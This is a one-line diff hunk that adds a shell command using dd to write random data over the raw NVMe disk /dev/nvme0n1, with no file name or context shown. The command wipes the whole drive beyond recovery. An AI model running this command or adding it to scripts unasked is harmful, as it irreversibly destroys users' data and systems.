@@ -1,0 +1,1 @@
+dd if=/dev/urandom of=/dev/nvme0n1
